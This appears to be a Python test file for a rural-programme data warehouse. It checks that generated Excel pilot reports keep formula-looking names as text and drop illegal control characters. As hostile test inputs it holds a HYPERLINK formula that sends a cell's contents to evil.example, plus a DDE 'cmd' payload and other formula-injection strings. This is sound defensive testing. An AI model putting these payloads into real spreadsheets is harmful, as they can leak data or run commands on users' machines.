"""The pilot reports (the 按月调度表 and the 评估验收评分表, as `ruralbrain report` and /pilots/export write them)
with names a hostile list gives, on SQLite and PostgreSQL with 忻州's real codes: text that reads as a formula
stays text, and characters XML cannot hold are dropped instead of failing the workbook."""

from __future__ import annotations

from openpyxl import load_workbook
from sqlalchemy import update

from etl.programmes.catalogue import load_programme
from etl.programmes.scoring import score_month
from etl.programmes.store import import_programme
from etl.warehouse.db import make_engine
from etl.warehouse.pilot_reports.acceptance import acceptance_book
from etl.warehouse.pilot_reports.monthly import monthly_workbook, read_monthly
from etl.warehouse.schema import programme_pilots
from tests.xinzhou_programme import HESUO, NOW, programme_copy

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def test_text_that_reads_as_a_formula_stays_text_in_the_reports(xinzhou_url, tmp_path):
    pilots = (
        f'[[pilots]]\nkind = "township"\ncounty = "忻府区"\ntownship = \'{FORMULA}\'\ncode = "{HESUO}"\n'
        "note = \"+cmd|' /C calc'!A0\"\n\n"
        '[[pilots]]\nkind = "township"\ncounty = "@SUM(1+1)"\ntownship = "宏道镇"\ncode = "140921102000"\n'
    )
    folder = programme_copy(tmp_path, pilots, **{'issuer = "忻州市乡村振兴局"': 'issuer = "=1+1"'})
    engine = make_engine(xinzhou_url)
    with engine.begin() as connection:
        import_programme(connection, load_programme(folder), NOW)
        score_month(connection, "xinzhou-2023", "2023-11", now=NOW)
        # A name the warehouse holds from before names were checked: its control character made openpyxl refuse
        # the whole workbook (IllegalCharacterError).
        connection.execute(
            update(programme_pilots).where(programme_pilots.c.pilot_id == "140921102000").values(name="宏道镇\x01")
        )
    with engine.connect() as connection:
        books = {
            "monthly": monthly_workbook(read_monthly(connection, "xinzhou-2023", "2023-11"), now=NOW),
            "acceptance": acceptance_book(connection, "xinzhou-2023", "2023-11", now=NOW),
        }
    engine.dispose()
    for name, book in books.items():
        book.save(tmp_path / f"{name}.xlsx")
        cells = [
            cell for sheet in load_workbook(tmp_path / f"{name}.xlsx") for row in sheet.iter_rows() for cell in row
        ]
        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == [], name
        texts = [cell.value for cell in cells if isinstance(cell.value, str)]
        assert any(FORMULA in text for text in texts), name  # shown as written
        assert any("宏道镇" in text for text in texts) and not any("\x01" in text for text in texts), name
    monthly = load_workbook(tmp_path / "monthly.xlsx")
    written = {cell.value: cell for row in monthly["忻府区"].iter_rows() for cell in row}
    assert written[FORMULA].data_type == "s" and written[FORMULA].quotePrefix
